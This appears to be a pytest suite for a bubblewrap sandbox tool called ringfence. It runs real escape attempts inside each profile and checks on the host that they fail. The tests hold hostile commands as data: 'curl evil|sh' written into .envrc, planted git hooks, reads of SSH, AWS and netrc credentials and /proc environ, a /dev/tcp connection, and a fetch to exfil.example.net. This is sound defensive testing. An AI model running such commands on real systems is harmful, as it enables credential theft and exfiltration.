"""Escape tests in real bwrap sandboxes, for each built-in profile.

Every test attacks for real through `ringfence run` and asserts on the HOST
side: the file outside is unchanged, the secret is absent from the output, the
listener received nothing, the process is still alive, no file is left behind.
Run as root and (scripts/test-unprivileged.sh) as an unprivileged user.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time

import pytest

from .sandbox_util import (CLI, INNER_PY, SECRET_DOTENV, SECRET_ENV, SECRET_FILE, TcpSpy, UnixSpy,
                           host_pids_with)

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
]

SANDBOXED = ("observe", "build", "strict", "host-assisted")
WRITABLE_WS = ("build", "strict", "host-assisted")


def wait_for(predicate, what: str, limit: float = 20.0) -> None:
    """Bounded wait for a condition (not a timing assertion)."""
    end = time.monotonic() + limit
    while not predicate():
        if time.monotonic() > end:
            raise AssertionError(f"gave up waiting for {what}")
        time.sleep(0.02)


@pytest.mark.parametrize("profile", SANDBOXED)
def test_writes_outside_the_workspace_fail(box, profile):
    r = box.run(profile, "-c",
                "echo pwned > ../outside/file.txt; echo pwned > link-out; "
                f"echo pwned > {box.outside}/new.txt; echo pwned >> ~/.bashrc; "
                "echo pwned > ~/.profile; cp README ../outside/copied; "
                "ln -s /x ../outside/l; mkdir ../outside/d; exit 0")
    assert r.returncode == 0, r.stderr
    assert (box.outside / "file.txt").read_text() == "original outside\n"
    assert sorted(os.listdir(box.outside)) == ["file.txt"]
    assert (box.home / ".bashrc").read_text() == "# original bashrc\n"
    assert not (box.home / ".profile").exists()
    assert "Read-only file system" in r.stderr


@pytest.mark.parametrize("profile", WRITABLE_WS)
def test_host_obeyed_files_are_held_not_applied(box, profile):
    config = (box.ws / ".git" / "config").read_text()
    hooks = sorted(os.listdir(box.ws / ".git" / "hooks"))
    r = box.run(profile, "-c",
                "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
                "echo '[core] hooksPath=/x' >> .git/config; "
                "echo 'curl evil|sh' > .envrc; mkdir -p .vscode .claude; "
                "echo '{}' > .vscode/settings.json; echo '{}' > .mcp.json; "
                "echo '{}' > .claude/settings.json; echo fine > notes.txt; exit 0")
    assert r.returncode == 0, r.stderr
    assert (box.ws / ".git" / "config").read_text() == config
    assert sorted(os.listdir(box.ws / ".git" / "hooks")) == hooks
    for held in (".envrc", ".vscode/settings.json", ".claude/settings.json", ".mcp.json"):
        assert not (box.ws / held).exists(), held
        assert f"held for review: {held}" in r.stderr
    assert "held for review: .git/hooks/pre-commit" in r.stderr
    assert "held for review: .git/config (adds git config keys that can run programs: " \
           "core.hookspath)" in r.stderr
    # the rest of the run was applied; the held changes wait in one stage
    assert (box.ws / "notes.txt").read_text() == "fine\n"
    assert len(box.stages()) == 1


@pytest.mark.parametrize("profile", SANDBOXED)
def test_credentials_are_unreadable_and_not_in_env(box, profile):
    r = box.run(profile, "-c",
                "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc; ls -a ~/.ssh; env; "
                "cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/1/cmdline; ps -ef; exit 0")
    out = r.stdout + r.stderr
    assert SECRET_FILE not in out
    assert SECRET_ENV not in out
    assert "HOME=" in r.stdout           # env really was printed
    assert "AWS_SECRET_ACCESS_KEY" not in r.stdout


def test_strict_hides_workspace_secrets(box):
    r = box.run("strict", "-c", "cat .env sub/.env.local server.pem; grep -r TOKEN . ; exit 0")
    assert SECRET_DOTENV not in r.stdout + r.stderr
    # the files are still there on the host, untouched
    assert SECRET_DOTENV in (box.ws / ".env").read_text()
    # while Build (not meant to hide them) reads them: the mask is what hides them
    r = box.run("build", "--", "cat", ".env")
    assert SECRET_DOTENV in r.stdout


def _control(spy, address, family) -> None:
    """Positive control: the same connection from the host IS recorded by the spy."""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.connect(address)
    wait_for(lambda: len(spy.accepted) == 1, "the host's own control connection")


@pytest.mark.parametrize("profile", SANDBOXED)
def test_host_loopback_tcp_is_unreachable(box, profile):
    spy = TcpSpy()
    try:
        script = (
            "import os, socket, urllib.request\n"
            "for host in ('127.0.0.1', 'localhost'):\n"
            "    try:\n"
            f"        socket.create_connection((host, {spy.port}), timeout=3).close()\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as e:\n"
            "        print('NOCONN', host, e)\n"
            "try:\n"
            f"    urllib.request.urlopen('http://127.0.0.1:{spy.port}/', timeout=5)\n"
            "    print('FETCHED')\n"
            "except Exception as e:\n"
            "    print('fetch failed', e)\n")
        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
        bash = box.run(profile, "-c", f"echo x > /dev/tcp/127.0.0.1/{spy.port}; exit 0")
        assert spy.accepted == []
        _control(spy, ("127.0.0.1", spy.port), socket.AF_INET)
    finally:
        spy.close()
    assert "CONNECTED" not in r.stdout and "FETCHED" not in r.stdout, r.stdout
    assert r.stdout.count("NOCONN") == 2, r.stdout + r.stderr
    assert bash.returncode == 0


@pytest.mark.parametrize("profile", SANDBOXED)
def test_host_unix_sockets_are_unreachable(box, profile):
    path = str(box.root / "host.sock")
    spy = UnixSpy(path)
    try:
        script = ("import socket\n"
                  "s = socket.socket(socket.AF_UNIX)\n"
                  f"s.connect({path!r})\n"
                  "print('CONNECTED')\n")
        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
        assert spy.accepted == []
        _control(spy, path, socket.AF_UNIX)
    finally:
        spy.close()
    assert r.returncode != 0
    assert "CONNECTED" not in r.stdout
    assert "Operation not permitted" in r.stderr     # the seccomp filter said no


@pytest.mark.parametrize("profile", SANDBOXED)
def test_host_abstract_unix_sockets_are_unreachable(box, profile):
    name = f"\0rf-test-{os.getpid()}-{profile}"
    spy = UnixSpy(name)
    try:
        script = ("import socket\n"
                  "s = socket.socket(socket.AF_UNIX)\n"
                  f"s.connect({name!r})\n"
                  "print('CONNECTED')\n")
        r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
        assert spy.accepted == []
        _control(spy, name, socket.AF_UNIX)
    finally:
        spy.close()
    assert r.returncode != 0 and "CONNECTED" not in r.stdout


@pytest.mark.parametrize("profile", SANDBOXED)
def test_host_processes_cannot_be_killed(box, profile):
    victim = subprocess.Popen(["sleep", "300"])
    try:
        r = box.run(profile, "-c", f"kill -9 {victim.pid}; kill -TERM -1; echo rc=$?")
        assert victim.poll() is None, "the host process was killed from inside"
        assert "rc=" in r.stdout
    finally:
        victim.kill()
        victim.wait()


@pytest.mark.parametrize("profile", SANDBOXED)
def test_remounts_fail(box, profile):
    r = box.run(profile, "-c",
                "mount -o remount,rw / ; echo remount=$?; "
                f"mount --bind {box.ws} {box.outside}; echo bind=$?; "
                "umount /tmp; echo umount=$?; "
                "echo pwned > ../outside/file.txt; exit 0")
    assert "remount=0" not in r.stdout and "bind=0" not in r.stdout
    assert "umount=0" not in r.stdout
    assert "remount=" in r.stdout
    assert (box.outside / "file.txt").read_text() == "original outside\n"


def test_observe_cannot_write_the_workspace(box):
    r = box.run("observe", "-c", "echo x > new.txt; echo y >> README; rm README; exit 0")
    assert not (box.ws / "new.txt").exists()
    assert (box.ws / "README").read_text() == "hello\n"
    assert "Read-only file system" in r.stderr


@pytest.mark.parametrize("profile", WRITABLE_WS)
def test_real_work_runs(box, profile):
    r = box.run(profile, "-c",
                "echo built > out.txt && git status --short && "
                f"{INNER_PY} -I -c 'print(6*7)' && mkdir -p build/x && "
                "echo t > /tmp/scratch && cat /tmp/scratch")
    assert r.returncode == 0, r.stderr
    assert (box.ws / "out.txt").read_text() == "built\n"
    assert "?? out.txt" in r.stdout and "42" in r.stdout and "t\n" in r.stdout
    assert (box.ws / "build" / "x").is_dir()


@pytest.mark.parametrize("profile", SANDBOXED)
@pytest.mark.parametrize("status", (0, 3, 42))
def test_exit_status_passes_through(box, profile, status):
    assert box.run(profile, "--", "sh", "-c", f"exit {status}").returncode == status


def test_program_not_found_is_127_like_a_shell(box):
    (box.ws / "notexec").write_text("#!/bin/sh\n")
    # a PATH of searchable dirs only: execvp reports EACCES (126) when some PATH
    # entry cannot be searched, as for an unprivileged user with /root/... on PATH
    env = box.env(PATH=f"/usr/bin:/bin:{os.path.dirname(shutil.which('bwrap'))}")
    r = box.run("strict", "--", "no-such-program-rf", env=env)
    assert r.returncode == 127 and "no-such-program-rf" in r.stderr
    assert "RF602" not in r.stderr
    assert box.run("strict", "--", "./notexec").returncode == 126


def test_signal_death_is_128_plus_n(box):
    assert box.run("strict", "-c", "kill -TERM $$").returncode == 128 + signal.SIGTERM


def _marker_cmd(box) -> list[str]:
    return ["--", "touch", str(box.ws / "MARKER")]


def test_missing_bwrap_gives_125_and_nothing_runs(box):
    env = box.env(PATH="/nonexistent")
    r = box.run("strict", *_marker_cmd(box), env=env)
    assert r.returncode == 125
    assert "RF601" in r.stderr and "apt-get install bubblewrap" in r.stderr
    assert "Traceback" not in r.stderr
    assert not (box.ws / "MARKER").exists()


@pytest.mark.parametrize("body", ("exit 1", "exit 0", "echo 'bwrap: setting up uid map: Permission denied' >&2; exit 1"))
def test_unusable_bwrap_gives_125_and_nothing_runs(box, body):
    fake = box.root / "fakebin"
    fake.mkdir()
    (fake / "bwrap").write_text(f"#!/bin/sh\n{body}\n")
    (fake / "bwrap").chmod(0o755)
    env = box.env(PATH=f"{fake}:{os.environ.get('PATH', '/usr/bin:/bin')}")
    r = box.run("strict", *_marker_cmd(box), env=env)
    assert r.returncode == 125, r.stderr
    assert "RF602" in r.stderr and "ringfence doctor" in r.stderr
    assert "Traceback" not in r.stderr
    assert not (box.ws / "MARKER").exists()


@pytest.mark.parametrize("profile", ("strict", "build"))
def test_sigkill_of_ringfence_leaves_no_process_and_no_files(box, profile):
    # the token appears only in the sleeper's own command line, not in bash's or ours
    token = "987654.%d" % os.getpid()
    proc = subprocess.Popen(
        [*CLI, "run", "-p", profile, "-w", str(box.ws), "-c",
         f"touch .envrc notes; echo started; s=987654; exec sleep $s.{os.getpid()}"],
        cwd=box.ws, env=box.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline() == "started\n"
    wait_for(lambda: host_pids_with(token), "the sandboxed sleeper")
    stages = box.stages()
    assert len(stages) == 1
    meta = json.loads((box.state / "stage" / stages[0] / "meta.json").read_text())
    runtime_dir = meta.get("runtime_dir")
    assert (runtime_dir is not None) == (profile == "build")
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    # --die-with-parent + the pid namespace take every sandboxed process down
    wait_for(lambda: not host_pids_with(token), "the sandbox to die with ringfence")
    # the writes were staged: nothing reached the workspace, not even a placeholder
    assert not (box.ws / ".envrc").exists() and not (box.ws / "notes").exists()
    r = box.run("strict", "--", "true")
    assert r.returncode == 0, r.stderr
    assert "RF642" in r.stderr and stages[0] in r.stderr
    if runtime_dir:
        assert not os.path.exists(runtime_dir)
    r = box.run("strict", "--", "true")
    assert "RF642" not in r.stderr             # reported once


@pytest.mark.parametrize("sig", (signal.SIGTERM, signal.SIGINT))
def test_signals_tear_the_sandbox_down(box, sig):
    token = "876543.%d" % os.getpid()
    proc = subprocess.Popen(
        [*CLI, "run", "-p", "build", "-w", str(box.ws), "-c",
         f"echo started; s=876543; sleep $s.{os.getpid()} & exec sleep $s.{os.getpid()}"],
        cwd=box.ws, env=box.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline() == "started\n"
    wait_for(lambda: len(host_pids_with(token)) == 2, "both sandboxed sleepers")
    proc.send_signal(sig)
    assert proc.wait(timeout=30) == 128 + sig
    wait_for(lambda: not host_pids_with(token), "the sandbox to be torn down")
    assert box.stages() == []


def test_timeout_kills_the_whole_sandbox(box):
    token = "765432.%d" % os.getpid()
    r = box.run("strict", "--timeout", "1", "-c",
                f"s=765432; sleep $s.{os.getpid()} & sleep $s.{os.getpid()} & wait")
    assert r.returncode == 124
    assert "RF608" in r.stderr
    wait_for(lambda: not host_pids_with(token), "the sandbox to be killed")


def test_rlimits_apply_inside(box):
    profile = box.root / "limited.toml"
    profile.write_text('extends = "strict"\n[limits]\nfile_size_mb = 1\n')
    r = box.run(str(profile), "-c",
                "head -c 2000000 /dev/zero > big; echo rc=$?; wc -c < big; ulimit -f")
    out = r.stdout.split()
    assert out[-2:] == [str(1024 * 1024), "1024"]  # cut at the limit; bash reports 1024-byte blocks
    # A file cut at the file-size limit is a `limit` run (RF628): its writes are held,
    # never applied as if complete (issue 23).
    assert r.returncode == 137, r.stderr
    assert not (box.ws / "big").exists()


def _host_reaches(host: str, port: int) -> bool:
    import socket
    try:
        socket.create_connection((host, port), timeout=5).close()
        return True
    except OSError:
        return False


def test_pip_download_from_the_allowlisted_registry_works_under_build(box):
    if not _host_reaches("pypi.org", 443):
        pytest.skip("this machine cannot reach pypi.org")
    r = box.run("build", "--", INNER_PY, "-m", "pip", "download", "--no-deps",
                "--disable-pip-version-check", "-q", "-d", "dl", "six==1.16.0", timeout=180)
    assert r.returncode == 0, r.stderr
    assert os.listdir(box.ws / "dl") == ["six-1.16.0-py2.py3-none-any.whl"]


def test_proxy_refusals_are_recorded_and_say_which_rule(box):
    from ringfence.session.runner import run

    script = ("import urllib.request, urllib.error\n"
              "try:\n"
              "    urllib.request.urlopen('http://exfil.example.net/x?d=1', timeout=10)\n"
              "except urllib.error.HTTPError as e:\n"
              "    print(e.code, e.read().decode())\n")
    res = run([INNER_PY, "-I", "-c", script], profile="build", workspace=str(box.ws),
              env=box.env(), capture=True)
    assert res.exit_code == 0, res.stderr
    assert res.stdout.startswith(b"403 ")
    assert [(d.host, d.allowed) for d in res.network] == [("exfil.example.net", False)]


@pytest.mark.parametrize("profile", SANDBOXED)
def test_nothing_in_the_sandbox_runs_without_the_seccomp_filter(box, profile):
    # An unfiltered process beside the command (bwrap's init, the proxy relay) could
    # be taken over through /proc/PID/mem to escape the filter.
    script = ("import os\n"
              "for pid in sorted(p for p in os.listdir('/proc') if p.isdigit()):\n"
              "    try:\n"
              "        status = open(f'/proc/{pid}/status').read()\n"
              "    except OSError:\n"
              "        continue\n"
              "    mode = status.split('Seccomp:')[1].split()[0]\n"
              "    print(pid, mode)\n")
    r = box.run(profile, "--", INNER_PY, "-I", "-c", script)
    assert r.returncode == 0, r.stderr
    modes = dict(line.split() for line in r.stdout.splitlines())
    assert len(modes) >= 2 and set(modes.values()) == {"2"}, modes


def test_a_closed_reader_ends_the_command_as_without_ringfence(box):
    # `ringfence run -- yes | head -1`: yes must get SIGPIPE, not run forever.
    proc = subprocess.Popen([*CLI, "run", "-p", "strict", "-w", str(box.ws), "--", "yes"],
                            cwd=box.ws, env=box.env(), stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL)
    assert proc.stdout.readline() == b"y\n"
    proc.stdout.close()
    assert proc.wait(timeout=60) == 128 + signal.SIGPIPE
